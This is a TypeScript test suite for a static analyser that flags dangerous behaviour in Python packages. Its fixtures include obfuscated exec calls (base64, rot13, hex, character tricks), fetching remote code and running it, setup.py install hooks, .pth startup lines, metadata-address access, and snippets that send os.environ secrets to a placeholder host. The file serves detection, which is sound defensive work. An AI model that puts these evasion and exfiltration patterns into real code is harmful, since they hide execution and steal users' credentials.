import fc from "fast-check"
import { beforeAll, describe, expect, it } from "vitest"
import { limitsDefault } from "../../core/limits.ts"
import { readPackaged } from "../../io/packaged.ts"
import type { Analyser } from "../language.ts"
import { type Shown, shownBy } from "../shown-fixture.ts"
import { python, pythonPaths } from "./index.ts"

let analyser: Analyser
beforeAll(async () => {
  analyser = await python.load(readPackaged)
})

/** The acts of a text, each on a line, but for modules of the standard library. */
const show = (text: string, files: readonly string[] = []): Shown => shownBy(analyser, text, { path: "pkg/setup.py", files })
const acts = (text: string, files: readonly string[] = []): readonly string[] =>
  show(text, files).acts.filter((act) => !/ module "\w+(?:\.\w+)*"$/.test(act))

describe("python", () => {
  it.each([
    ["setup.py", ""],
    ["a/conftest.py", ""],
    ["bin/tool", "#!/usr/bin/env python3"],
    ["SConstruct", ""],
  ])("claims %s", (path, firstLine) => expect(python.claims(path, firstLine)).toBe(true))

  it.each([
    ["setup.cfg", ""],
    ["bin/tool", "#!/bin/sh"],
  ])("does not claim %s", (path, firstLine) => expect(python.claims(path, firstLine)).toBe(false))

  it.each([
    ["import os\nos.system('touch ' + 'MARKER')", ['2 runs text shell "touch MARKER"']],
    ["from os import system as s\ns(f'touch {\"MARKER\"}')", ['2 runs text shell "touch MARKER"']],
    ["from os import *\nsystem('id')", ['2 runs text shell "id"']],
    ["import os\ngetattr(os, 'sys' + 'tem')('id')", ['2 runs text shell "id"']],
    ["__import__('o' 's').popen('id')", ['1 runs text shell "id"']],
    ["__builtins__.__dict__['ev' 'al']('1')", ['1 runs text python "1"']],
    ["globals()['exec']('1')", ['1 runs text python "1"']],
    ["import subprocess\nsubprocess.run(['cc', '-c', 'a.c'])", ['2 runs program "cc" with "-c", "a.c"']],
    ["import subprocess as p\np.Popen('a | b', shell=True)", ['2 runs text shell "a | b"']],
    ["import subprocess\nsubprocess.call(['sh', '-c', 'id'])", ['2 runs program "sh" with "-c", "id"', '2 runs text shell "id"']],
    ["import os\nos.execvp('x', ['x', 'y'])", ['2 runs program "x" with "y"']],
    ["import ctypes\nctypes.CDLL('./x.so')", ['2 runs object "./x.so"']],
    ["exec 'x' in {}", ['1 runs text python "x"']],
    [
      "import marshal\nf = lambda: None\nf.__code__ = marshal.loads(open('x').read())",
      ['3 reads "x"', '3 runs text python decode:marshal.loads(file<"x">)'],
    ],
    [
      "import functools, getpass\ndef around(f):\n    @functools.wraps(f)\n    def inner(*a):\n        return f(*a)\n    return inner\ngetpass.getpass = around(getpass.getpass)",
      ["7 replaces getpass.getpass"],
    ],
    ["import sys\nsys.meta_path.insert(0, Finder())\nsys.path.insert(0, 'x')", ["2 replaces sys.meta_path"]],
    ["import operator\noperator.methodcaller('eval', '1')(__builtins__)", ['2 runs text python "1"']],
  ])("runs: %s", (text, expected) => expect(acts(text)).toEqual(expected))

  it.each([
    ["exec(__import__('base64').b64decode('cGFzcw=='))", '1 runs text python decode:base64.b64decode("cGFzcw==")'],
    ["import codecs\nexec(codecs.decode('cnff', 'rot13'))", '2 runs text python decode:codecs.decode("cnff")'],
    ["exec(''.join(chr(c) for c in [112, 97, 115, 115]))", '1 runs text python decode:join("pass")'],
    ["exec(bytes([112, 97, 115, 115]))", '1 runs text python decode:bytes("pass")'],
    ["exec(''.join(chr(ord(c) ^ 1) for c in 'q`rr'))", '1 runs text python decode:join("pass")'],
    ["exec('ssap'[::-1])", '1 runs text python slice:[:]("ssap")'],
    ["exec('%s%s' % ('pa', 'ss'))", '1 runs text python "pass"'],
    ["exec('{0}{b}'.format('pa', b='ss'))", '1 runs text python "pass"'],
    ["exec('paXss'.replace('X', ''))", '1 runs text python edit:replace("paXss")'],
    ["exec('abss'.translate(str.maketrans('ab', 'pa')))", '1 runs text python translate:translate("abss")'],
    ["exec('\\x70a\\163s')", '1 runs text python "pass"'],
    ["x = 'pa'\nx += 'ss'\nexec(x)", '3 runs text python "pass"'],
    ["exec(bytes.fromhex('70617373').decode())", '1 runs text python decode:bytes.fromhex("70617373")'],
  ])("constants that are run: %s", (text, expected) => expect(acts(text)).toEqual([expected]))

  it("analyses again what a decoded constant says", () => {
    const hidden = Buffer.from("import os\nos.remove('MARKER')").toString("base64")
    expect(acts(`import base64\nexec(base64.b64decode('${hidden}'))`)).toContain('2 deletes "MARKER"')
  })

  it("follows content of a file to where it runs", () => {
    const text =
      "import os, zlib\nwith open(os.path.join(os.path.dirname(__file__), 'tests', 'a.bin'), 'rb') as f:\n  data = f.read()\nexec(zlib.decompress(data[16:]))"
    expect(acts(text)).toEqual([
      '2 reads "pkg/tests/a.bin"',
      '4 runs text python decompress:zlib.decompress(slice:[:](file<"pkg/tests/a.bin">))',
    ])
  })

  it("knows paths as objects", () => {
    expect(acts("from pathlib import Path\nexec((Path(__file__).parent / 'a' / 'b.py').read_text())")).toEqual([
      '2 reads "pkg/a/b.py"',
      '2 runs text python file<"pkg/a/b.py">',
    ])
  })

  it("follows what comes from the network", () => {
    const url = "https://download.example.org/x"
    expect(acts(`import requests\nr = requests.get('${url}')\nexec(r.text)`)).toEqual([
      `2 connects "${url}"`,
      `3 runs text python fetched<"${url}">`,
    ])
    expect(acts(`import urllib.request as u\nu.urlretrieve('${url}', 'x')`)).toEqual([
      `2 connects "${url}"`,
      `2 writes "x" fetched<"${url}">`,
    ])
  })

  it.each([
    ["import os, requests\nrequests.post('//h', json={'a': dict(os.environ)})", '2 connects "//h" sends '],
    ["import os, httpx\nhttpx.post('//h', headers={'a': os.environ['A']})", '2 connects "//h" sends '],
    ["import os, urllib.request as u\nu.urlopen(u.Request('//h', data=os.getenv('A')))", '2 connects "//h" sends '],
    ["import os, http.client as c\nh = c.HTTPSConnection('h')\nh.request('POST', '/', str(os.environ))", '3 connects "h" sends '],
    ["import os, socket\ns = socket.socket()\ns.connect(('h', 1))\ns.sendall(os.environ['A'].encode())", '4 connects "h" sends '],
    ["import os, smtplib\nsmtplib.SMTP('h').sendmail('a', 'b', os.environ['A'])", '2 connects "h" sends '],
    [
      "import os, threading, requests\ndef f():\n  requests.post('//h', os.environ['A'])\nthreading.Thread(target=f).start()",
      '3 connects "//h" sends ',
    ],
  ])("tells what is sent: %s", (text, expected) => {
    const sent = acts(text).filter((act) => act.includes(" sends "))
    expect(sent).toHaveLength(1)
    expect(sent[0]?.startsWith(expected) === true && !sent[0].endsWith("if called"), sent[0]).toBe(true)
  })

  it("a path that is made a text still names its file", () => {
    expect(acts("import pathlib\nexec(open(str(pathlib.Path('a.bin'))).read())").at(-1)).toContain('file<"a.bin">')
  })

  it("knows what only callers run, and what builders call", () => {
    const sending = (name: string): readonly string[] =>
      acts(`import os, requests\ndef ${name}():\n  requests.post('//h', os.environ['A'])`).map((act) => act.slice(-9))
    expect([sending("upload")[0], sending("build_wheel")[0]?.endsWith("called")]).toEqual(["if called", false])
  })

  it("looks at what a class of setup's cmdclass does", () => {
    const text =
      "class install(base):\n  what = 'x'\n  def run(self):\n    import os\n    os.system('touch ' + self.what)\nsetup(cmdclass={'install': install})"
    expect(acts(text)).toEqual(['5 runs text shell "touch x"'])
  })

  it("calls the functions of a program with what they are given", () => {
    expect(acts("import os\ndef f(a, b='y', *rest, **more):\n  os.system(a + b)\nf('x')")).toEqual(['3 runs text shell "x" + (? | "y")'])
  })

  it("names the file that an import of the release's own loads", () => {
    expect(show("from .b import c\nimport pkg.d", ["pkg/b.py", "pkg/d/__init__.py"]).acts).toContain('1 runs module "pkg/b.py"')
    expect(show("from .b import c\nimport pkg.d", ["pkg/b.py", "pkg/d/__init__.py"]).acts).toContain('2 runs module "pkg/d/__init__.py"')
  })

  it("says which lines are no Python, and goes on", () => {
    const { acts: found, blind } = show("import os\n)) ??\nos.system('id')\n")
    expect(blind.some((line) => /^2 .*syntax error/.test(line))).toBe(true)
    expect(found).toContain('3 runs text shell "id"')
  })

  it("survives nesting, and says what it did not read", () => {
    for (const text of ["(".repeat(50_000), `x = ${"[".repeat(20_000)}${"]".repeat(20_000)}`, `${"f(".repeat(5000)}1${")".repeat(5000)}`])
      expect(show(text).blind.length).toBeGreaterThan(0)
    expect(show(`x = ${"'a' + ".repeat(20_000)}'b'`).blind).toEqual([])
    expect(show(`x = [i ${"for i in x ".repeat(3000)}]`).blind).toEqual(["1 more than 16 loops in a comprehension"])
    expect(show(`x = [i for i in x ${"if i ".repeat(3000)}]`).blind).toEqual([])
    expect(show(`${"(lambda: ".repeat(300)}1${")()".repeat(300)}`).blind.length).toBeGreaterThan(0)
  })

  it("never throws, and stays in the text", () => {
    const word = fc.constantFrom(
      "import os",
      "os.system(",
      "'a'",
      "\n",
      "  ",
      "def f(",
      "):",
      "class A:",
      "(",
      ")",
      "[",
      "]",
      "{",
      "}",
      "for x in",
      "=",
      "+",
      "f'{",
      "lambda:",
      "\\",
      '"""',
      "exec",
      ",",
      ":",
      "if",
      "else",
      "\u00e9",
      "\0",
    )
    fc.assert(
      fc.property(
        fc.oneof(
          fc.string({ unit: "binary-ascii" }),
          fc.array(word).map((words) => words.join(" ")),
        ),
        (text) => {
          const lines = text.split("\n").length
          const { places } = show(text)
          for (const {
            lines: [first, last],
          } of places)
            expect(first >= 1 && first <= last && last <= lines).toBe(true)
        },
      ),
      { numRuns: 300 },
    )
  })

  it("sees the same whatever comments stand between", () => {
    const program = ["import os, base64", "x = 'id'", "def f(a):", "  os.system(a)", "f(x)", "exec(base64.b64decode('cGFzcw=='))"]
    const withoutLines = (text: string): readonly string[] => show(text).acts.map((act) => act.replace(/^\d+ /, ""))
    fc.assert(
      fc.property(fc.array(fc.stringMatching(/^[ -~]*$/), { minLength: 6, maxLength: 6 }), (comments) => {
        const text = program.map((line, index) => `${line} # ${comments[index]}`).join("\n")
        expect(withoutLines(text)).toEqual(withoutLines(program.join("\n")))
      }),
    )
  })

  it("sees the same however a literal is split", () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom("' '", "' + '", "' \\\n  '", "' + f'{''}"), { minLength: 8, maxLength: 8 }), (splits) => {
        const text = [..."touch MA"].map((one, index) => `${one}${splits[index]}`).join("")
        const shown = show(`import os\nos.system('${text}')`).acts.map((act) => act.replace(/^\d+ /, ""))
        expect(shown).toEqual(['runs module "os"', 'runs text shell "touch MA"'])
      }),
    )
  })

  it("reads the lines of a path configuration file that an interpreter runs when it starts", async () => {
    const paths = await pythonPaths.load(readPackaged)
    const text = "lib\nimport os; os.system('touch MARKER')\n# import x\n import y\n"
    expect(pythonPaths.claims("pkg/a.pth", "")).toBe(true)
    const inner: string[] = []
    const analysis = { limits: limitsDefault, files: new Set<string>(), variables: new Map() }
    paths(
      { text, place: (start, end) => ({ path: "a.pth", lines: [start, end] }) },
      {
        ...analysis,
        inner(language, source) {
          inner.push(`${language} ${source.place(0, 6).lines} ${source.text}`)
          return { acts: [], blind: [] }
        },
      },
    )
    expect(inner).toEqual(["python 4,10 import os; os.system('touch MARKER')"])
  })

  it("reads no more of a text than its limits say", () => {
    const bounded = { ...limitsDefault, syntaxNodesMax: 100 }
    expect(shownBy(analyser, "import os\n".repeat(1000), { path: "a.py", files: [], limits: bounded }).blind[0]).toMatch(
      /more than 100 nodes/,
    )
  })

  it("computes addresses of numbers", () =>
    expect(acts("import ipaddress, urllib.request\na = ipaddress.ip_address(0xA9FEA9FE)\nurllib.request.urlopen(f'http://{a}/x')")).toEqual(
      ['3 connects "http://169.254.169.254/x"'],
    ))

  it("reads a database as the file that it is", () => {
    const text =
      "import sqlite3\nfor p in q.glob('*/a.db'):\n  c = sqlite3.connect(f'{p.as_uri()}?mode=ro', uri=True)\n  exec(c.execute('x'))"
    expect(acts(text)[0]).toMatch(/^3 reads /)
    expect(acts("import sqlite3\nsqlite3.connect('file:a.db?mode=ro', uri=True)\nsqlite3.connect('b.db')")).toEqual([
      '2 reads "a.db"',
      '3 reads "b.db"',
    ])
  })
})
